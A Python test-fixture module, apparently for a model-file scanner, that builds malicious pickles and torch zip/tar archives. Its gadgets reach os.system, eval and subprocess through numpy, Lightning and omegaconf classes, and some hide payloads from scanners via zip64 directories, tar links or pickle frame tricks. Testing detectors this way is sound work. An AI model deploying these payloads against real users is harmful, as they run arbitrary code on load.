"""Payloads that turn a harmless entry against the loader, and that torch reads where scanners did not.

Sources, one family each:
- numpy/random/_pickle.py: `__generator_ctor` and `__randomstate_ctor` call the constructor they are
  handed; `__bit_generator_ctor` instantiates any type. Handed `torch.storage._load_from_bytes`
  (torch/storage.py: `torch.load(io.BytesIO(b), weights_only=False)`), the ctor loads a nested
  payload, even under `weights_only=True` once the harmless names are allowed.
- lightning_fabric/utilities/data.py AttributeDict.__getattr__ answers from the items, and CPython's
  Modules/_pickle.c looks attributes up on the object it builds (load_build: `__setstate__`;
  do_append: `extend`, then `append`): an item under those names is called.
- "Referenced, never called": a shipped function only referenced, then handed to an allowed
  constructor (defaultdict, Path, numpy's reconstructors) or kept in a rebuilt object's state.
- miniz (third_party/miniz, mz_zip_reader_read_central_dir): a zip64 locator makes torch read the
  zip64 directory, which lists another data.pkl than the classic one.
- tarfile: `extractfile("pickle")` follows a symbolic or hard link to the member it names.
- python/cpython#154848: a FRAME an opcode straddles, read from the io.BytesIO torch's zip reader
  hands the unpickler (no peek), runs a call a buffered file does not.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.payloads import Payload, code, evil_pickle, shell, torch_zip
from tests.torchfile import call, global_, integer, pickled, text, tuple_, value

NP = "numpy.random._pickle"
LIGHTNING = "pytorch_lightning.utilities.parsing"


def small_zip(folder: str, data_pkl: bytes) -> bytes:
    """A torch zip holding only `<folder>/data.pkl` and its version record."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(f"{folder}/data.pkl", data_pkl)
        archive.writestr(f"{folder}/version", "3\n")
    return buf.getvalue()


def inner_zip(m: Path) -> bytes:
    """A torch zip whose data.pkl runs the payload: what torch.storage._load_from_bytes loads."""
    return small_zip("inner", evil_pickle(m))


def ctor(name: str, first: Callable[[Path], bytes], second: bytes) -> Callable[[Path], bytes]:
    """numpy's `name`(first, second): the second argument is called with the first."""
    return lambda m: call(global_(NP, name), first(m), second)


def load_from_bytes_arg(m: Path) -> bytes:
    return value(inner_zip(m))


def gadget(name: str, callee: tuple[str, str], arg: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    return lambda m: pickled(ctor(name, arg, global_(*callee))(m))


def in_zip(body: Callable[[Path], bytes], key: str = "rng") -> Callable[[Path], bytes]:
    """The gadget as one value of a training checkpoint's dict, in a torch zip."""
    return lambda m: torch_zip(m, body=b"}(" + text("epoch") + integer(3) + text(key) + body(m) + b"u")


def popped(body: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    """The gadget runs, its result is popped: nothing reachable from the root holds it."""
    return lambda m: torch_zip(m, body=body(m) + b"0" + b"}")


def memoized(m: Path) -> bytes:
    fn = global_("posix", "system") + b"q\x07"
    return pickled(fn + b"0" + call(global_(NP, "__generator_ctor"), text(shell(m)), b"h\x07"))


def stack_globals(m: Path) -> bytes:
    return (b"\x80\x04" + text(NP) + text("__generator_ctor") + b"\x93" + text(shell(m)) + text("posix")
            + text("system")
            + b"\x93\x86R.")


def inst_opcode(m: Path) -> bytes:
    return (b"(" + b"S'" + shell(m).encode() + b"'\n" + b"cposix\nsystem\n" + f"i{NP}\n__generator_ctor\n".encode()
            + b".")


def bit_generator(cls: tuple[str, str]) -> Callable[[Path], bytes]:
    return lambda m: pickled(call(global_(NP, "__bit_generator_ctor"), global_(*cls)))


def attribute_dict(key: str, callee: tuple[str, str], then: Callable[[Path], bytes],
                   cls: tuple[str, str] = (LIGHTNING, "AttributeDict")) -> Callable[[Path], bytes]:
    """AttributeDict() with `key` -> callee in its items, then an opcode that looks `key` up."""
    return lambda m: pickled(global_(*cls) + b")\x81" + b"(" + text(key) + global_(*callee) + b"u" + then(m))


def build_shell(m: Path) -> bytes:
    return text(shell(m)) + b"b"  # BUILD: getattr(obj, "__setstate__")(state)


def append_argv(m: Path) -> bytes:
    return b"]" + b"(" + text("touch") + text(str(m)) + b"e" + b"a"  # APPEND: extend([argv]) or append(argv)


def appends_argv(m: Path) -> bytes:
    return b"(" + text("touch") + text(str(m)) + b"e"  # APPENDS: extend(["touch", m])


def build_eval(m: Path) -> bytes:
    return text(f"__import__('os').system({shell(m)!r})") + b"b"


def lightning_zip(m: Path) -> bytes:
    hparams = attribute_dict("__setstate__", ("posix", "system"), build_shell)(m)[2:-1]
    return torch_zip(m, body=b"}(" + text("epoch") + integer(3) + text("hyper_parameters") + hparams + b"u")


def dictconfig_append(m: Path) -> bytes:
    return pickled(global_("omegaconf.dictconfig", "DictConfig") + b")\x81" + b"}b" + text(shell(m)) + b"a")


def referenced(holder: Callable[[bytes], bytes], target: tuple[str, str] = ("torch.storage", "_load_from_bytes")
               ) -> Callable[[Path], bytes]:
    return lambda m: torch_zip(m, body=holder(global_(*target)))


def top_level(ref: bytes) -> bytes:
    return b"}(" + text("fn") + ref + b"u"


def namespace_state(ref: bytes) -> bytes:
    return global_("argparse", "Namespace") + b")\x81" + b"}(" + text("fn") + ref + b"ub"


def attrdict_item(ref: bytes) -> bytes:
    return global_(LIGHTNING, "AttributeDict") + b")\x81" + b"(" + text("loader") + ref + b"u"


def defaultdict_factory(ref: bytes) -> bytes:
    return call(global_("collections", "defaultdict"), ref)


def path_of(ref: bytes) -> bytes:
    return call(global_("pathlib", "PosixPath"), ref)


def reconstruct(ref: bytes) -> bytes:
    return call(global_("numpy._core.multiarray", "_reconstruct"), ref, tuple_(integer(0)), value(b"b"))


def seed_sequence(ref: bytes) -> bytes:
    return call(global_("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence"), ref, integer(0), b"N")


def dtype_of(ref: bytes) -> bytes:
    return call(global_("numpy", "dtype"), ref, b"\x89", b"\x88")


def scalar_of(ref: bytes) -> bytes:
    dtype = call(global_("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return call(global_("numpy._core.multiarray", "scalar"), dtype, ref)


def version_of(ref: bytes) -> bytes:
    return call(global_("torch.torch_version", "TorchVersion"), ref)


def deque_of(ref: bytes) -> bytes:
    return call(global_("collections", "deque"), b"]" + ref + b"a")


def datetime_of(ref: bytes) -> bytes:
    return call(global_("datetime", "datetime"), value(b"\x07\xe9\x01\x01\x00\x00\x00\x00\x00\x00"), ref)


def zip64_hidden(m: Path) -> bytes:
    """Two directories: the classic one lists a benign data.pkl, the zip64 one (which miniz reads) the payload."""
    good, bad = pickled(b"}"), evil_pickle(m)
    version = b"3\n"
    members = [(b"archive/data.pkl", good), (b"archive/version", version), (b"archive/data.pkl", bad)]
    out, entries = bytearray(), []
    for name, data in members:
        entries.append((name, data, len(out)))
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
                           len(name), 0) + name + data

    def directory(chosen):
        cd = bytearray()
        for name, data, offset in chosen:
            cd += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                              len(data), len(name), 0, 0, 0, 0, 0, offset) + name
        return bytes(cd)

    hidden = directory([entries[2], entries[1]])
    hidden_at = len(out)
    out += hidden
    classic = directory([entries[0], entries[1]])
    classic_at = len(out)
    out += classic
    record_at = len(out)
    out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 2, 2, len(hidden), hidden_at)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, record_at, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(classic), classic_at, 0)
    return bytes(out)


def tar_link(kind: str) -> Callable[[Path], bytes]:
    """torch's pre-0.4 tar whose `pickle` member is a link to a member named `payload`."""
    def build(m: Path) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
            for name, data in (("payload", evil_pickle(m)), ("storages", pickled(integer(0)) + pickled(b"]")),
                               ("tensors", pickled(integer(0))), ("decoy", pickled(b"}"))):
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            link = tarfile.TarInfo("pickle")
            link.type = tarfile.SYMTYPE if kind == "symlink" else tarfile.LNKTYPE
            link.linkname = "payload"
            tar.addfile(link)
        return buf.getvalue()

    return build


def frame_divergent(m: Path) -> bytes:
    """python/cpython#154848: read from an io.BytesIO (no peek) the C unpickler runs the call hidden in BINBYTES."""
    hidden = b"cposix\nsystem\n" + b"V" + shell(m).encode() + b"\n" + b"\x85R"
    p = b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + b"0("
    p += b"\x95" + struct.pack("<Q", 2) + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00"
    p += (hidden + b"(").ljust(256 + 5, b"N") + b"1."
    return p


def frame_in_zip(m: Path) -> bytes:
    return small_zip("archive", frame_divergent(m))


def frame_in_tar_storages(m: Path) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", frame_divergent(m)), ("tensors", pickled(integer(0))), ("pickle",
                                                                                                pickled(b"}"))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _lfb(name: str) -> Callable[[Path], bytes]:
    return gadget(name, ("torch.storage", "_load_from_bytes"), load_from_bytes_arg)


LFB = "torch.storage._load_from_bytes"
GADGETS = [
    # numpy's ctors call what they are handed
    Payload("numpy-generator-ctor-load-from-bytes", "numpy/random/_pickle.py __generator_ctor + torch/storage.py",
            _lfb("__generator_ctor"), f"{NP}.__generator_ctor(", loader="pickle:torch"),
    Payload("numpy-randomstate-ctor-load-from-bytes", "numpy/random/_pickle.py __randomstate_ctor",
            _lfb("__randomstate_ctor"), f"{NP}.__randomstate_ctor(", loader="pickle:torch"),
    Payload("numpy-generator-ctor-in-torch-zip", "the gadget inside a training checkpoint",
            in_zip(lambda m: ctor("__generator_ctor", load_from_bytes_arg, global_("torch.storage",
                                                                                   "_load_from_bytes"))(m)),
            LFB, loader="torch"),
    Payload("numpy-generator-ctor-under-safe-globals",
            "the old OD120 program: weights_only=True with the names allowed",
            in_zip(lambda m: ctor("__generator_ctor", load_from_bytes_arg, global_("torch.storage",
                                                                                   "_load_from_bytes"))(m)),
            LFB, loader="torch-allowed"),
    Payload("numpy-randomstate-ctor-under-safe-globals", "the old OD120 program, RandomState",
            in_zip(lambda m: ctor("__randomstate_ctor", load_from_bytes_arg, global_("torch.storage",
                                                                                     "_load_from_bytes"))(m)),
            LFB, loader="torch-allowed"),
    Payload("numpy-generator-ctor-popped", "the gadget's result popped: reachable from nothing",
            popped(lambda m: ctor("__generator_ctor", load_from_bytes_arg, global_("torch.storage",
                                                                                   "_load_from_bytes"))(m)),
            LFB, loader="torch"),
    Payload("numpy-generator-ctor-os-system", "numpy ctor handed os.system", gadget(
        "__generator_ctor", ("posix", "system"), lambda m: text(shell(m))), "posix.system", loader="pickle"),
    Payload("numpy-randomstate-ctor-os-system", "numpy ctor handed os.system", gadget(
        "__randomstate_ctor", ("posix", "system"), lambda m: text(shell(m))), "posix.system", loader="pickle"),
    Payload("numpy-generator-ctor-exec", "numpy ctor handed builtins.exec", gadget(
        "__generator_ctor", ("builtins", "exec"), lambda m: text(code(m))), "builtins.exec", loader="pickle"),
    Payload("numpy-randomstate-ctor-eval", "numpy ctor handed builtins.eval", gadget(
        "__randomstate_ctor", ("builtins", "eval"), lambda m: text(f"__import__('os').system({shell(m)!r})")),
        "builtins.eval", loader="pickle"),
    Payload("numpy-generator-ctor-getoutput", "numpy ctor handed subprocess.getoutput", gadget(
        "__generator_ctor", ("subprocess", "getoutput"), lambda m: text(shell(m))), "subprocess.getoutput",
        loader="pickle"),
    Payload("numpy-generator-ctor-memoized-callee", "the callee fetched from the memo", memoized, "posix.system",
            loader="pickle"),
    Payload("numpy-generator-ctor-stack-global", "protocol 4 STACK_GLOBAL for the ctor and the callee",
            stack_globals, "posix.system", loader="pickle"),
    Payload("numpy-generator-ctor-inst-opcode", "protocol 0 INST calls the ctor", inst_opcode, "posix.system",
            loader="pickle"),
    Payload("numpy-bit-generator-ctor-popen", "__bit_generator_ctor instantiates any type it is handed",
            bit_generator(("subprocess", "Popen")), "subprocess.Popen", loader=None),
    Payload("numpy-bit-generator-ctor-foreign-type", "a type that is not one of numpy's bit generators",
            bit_generator(("torch.nn.modules.module", "Module")), "torch.nn.modules.module.Module", loader=None),
    Payload("numpy-bit-generator-ctor-function", "__bit_generator_ctor handed a function",
            bit_generator(("torch.storage", "_load_from_bytes")), LFB, loader=None),
    # Lightning's AttributeDict answers the unpickler's lookups from its items
    Payload("lightning-attributedict-setstate", "AttributeDict.__getattr__ + _pickle.c load_build",
            attribute_dict("__setstate__", ("posix", "system"), build_shell), "__setstate__",
            loader="pickle:pytorch_lightning"),
    Payload("lightning-attributedict-append", "AttributeDict.__getattr__ + _pickle.c do_append (append)",
            attribute_dict("append", ("subprocess", "call"), append_argv), "subprocess.call",
            loader="pickle:pytorch_lightning"),
    Payload("lightning-attributedict-extend", "AttributeDict.__getattr__ + _pickle.c do_append (extend)",
            attribute_dict("extend", ("subprocess", "call"), appends_argv), "subprocess.call",
            loader="pickle:pytorch_lightning"),
    Payload("lightning-attributedict-setstate-eval", "AttributeDict: __setstate__ -> builtins.eval",
            attribute_dict("__setstate__", ("builtins", "eval"), build_eval), "builtins.eval",
            loader="pickle:pytorch_lightning"),
    Payload("lightning-fabric-attributedict-setstate", "lightning_fabric's AttributeDict, the same lookup",
            attribute_dict("__setstate__", ("posix", "system"), build_shell,
                           ("lightning_fabric.utilities.data", "AttributeDict")), "__setstate__",
            loader="pickle:lightning_fabric"),
    Payload("lightning-attributedict-in-checkpoint", "a Lightning checkpoint's hyper_parameters",
            lightning_zip, "__setstate__", loader="torch:pytorch_lightning"),
    Payload("omegaconf-dictconfig-append",
            "omegaconf dictconfig.py __getattr__: APPEND looks `append` up in the content",
            dictconfig_append, "omegaconf.dictconfig.DictConfig.append", loader=None),
    # a shipped function merely referenced, where an allowed constructor could call it
    Payload("referenced-load-from-bytes-top-level", "a shipped function kept as a value", referenced(top_level),
            LFB, loader=None),
    Payload("referenced-in-namespace-state", "a shipped function in a rebuilt object's state",
            referenced(namespace_state), LFB, loader=None),
    Payload("referenced-in-attributedict-item", "a shipped function as a hyper-parameter",
            referenced(attrdict_item), LFB, loader=None),
    Payload("defaultdict-factory-system", "defaultdict(os.system): the factory runs on a missing key",
            referenced(defaultdict_factory, ("posix", "system")), "collections.defaultdict(<posix.system>)",
            loader=None),
    Payload("defaultdict-factory-load-from-bytes", "defaultdict handed a shipped function",
            referenced(defaultdict_factory), "collections.defaultdict(<torch.storage._load_from_bytes>)", loader=None),
    Payload("pathlib-of-reference", "Path() handed a function (os.fspath calls __fspath__ on non-strings)",
            referenced(path_of), "pathlib.PosixPath(<torch.storage._load_from_bytes>)", loader=None),
    Payload("numpy-reconstruct-foreign-subtype", "_reconstruct runs subtype.__array_finalize__",
            referenced(reconstruct, ("subprocess", "Popen")), "_reconstruct(<subprocess.Popen>", loader=None),
    Payload("numpy-seedsequence-foreign-type", "Cython's unpickler instantiates the type it is handed",
            referenced(seed_sequence, ("posix", "system")), "__pyx_unpickle_SeedSequence(<posix.system>", loader=None),
    Payload("numpy-dtype-of-reference", "numpy.dtype() handed a class", referenced(dtype_of, ("subprocess", "Popen")),
            "numpy.dtype(<subprocess.Popen>", loader=None),
    Payload("numpy-object-scalar-of-reference", "an object scalar holding a function",
            referenced(scalar_of, ("posix", "system")), "posix.system", loader=None),
    Payload("torchversion-of-reference", "TorchVersion() handed a function", referenced(version_of), LFB, loader=None),
    Payload("deque-of-reference", "a deque of functions", referenced(deque_of, ("posix", "system")), "posix.system",
            loader=None),
    Payload("datetime-of-reference", "datetime() handed a function as its time zone", referenced(datetime_of), LFB,
            loader=None),
    # torch reads another directory, another member, another frame
    Payload("zip64-directory-hides-data-pkl", "miniz reads the zip64 directory when a locator precedes the end record",
            zip64_hidden, "os.system", loader="torch"),
    Payload("tar-pickle-symlink", "tarfile.extractfile follows a symbolic link", tar_link("symlink"), "os.system",
            ".tar", loader="torch"),
    Payload("tar-pickle-hardlink", "tarfile.extractfile follows a hard link", tar_link("hardlink"), "os.system",
            ".tar", loader="torch"),
    Payload("frame-bytesio-zip", "python/cpython#154848 read from torch's io.BytesIO", frame_in_zip, "posix.system",
            loader="torch"),
    Payload("frame-unbuffered-tar-storages", "python/cpython#154848 in a tar's storages, read unbuffered",
            frame_in_tar_storages, "posix.system", ".tar", loader="torch"),
]
